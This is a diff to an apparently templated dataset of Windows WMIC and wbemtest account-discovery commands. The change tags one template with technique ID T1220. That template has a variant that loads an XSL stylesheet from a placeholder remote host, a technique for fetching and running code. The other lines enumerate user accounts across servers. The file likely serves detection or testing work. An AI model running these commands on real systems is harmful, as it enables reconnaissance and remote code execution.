@@ -60,7 +60,7 @@ ma-wmic-namespace cmd: wmic /namespace:\\root\cimv2 path Win32_UserAccount where
 ma-wmic-stdin cmd: echo useraccount list brief | wmic
 ma-wmic-alias-domain cmd: wmic useraccount where "domain='«%computername%¦‹server›»'" get name,«disabled¦lockout¦sid»
 ma-wmic-clip cmd: wmic /output:CLIPBOARD useraccount get Name,«SID¦Caption»
-ma-wmic-xsl cmd: wmic useraccount get /format:«"‹dir›\‹name›.xsl"¦"https://‹ip›/‹name›.xsl"»
+ma-wmic-xsl cmd +T1220: wmic useraccount get /format:«"‹dir›\‹name›.xsl"¦"https://‹ip›/‹name›.xsl"»
 ma-wmic-group-user cmd: wmic path Win32_GroupUser get PartComponent & wmic useraccount get name
 ma-wmic-loop-servers cmd: for /f %s in (servers.txt) do wmic /node:%s useraccount where "LocalAccount=True" get name,sid >> ‹file›
 ma-wmi-wbemtest text: wbemtest: Query «select * from Win32_UserAccount where LocalAccount=True¦SELECT Name FROM Win32_UserAccount» in \\.\root\cimv2
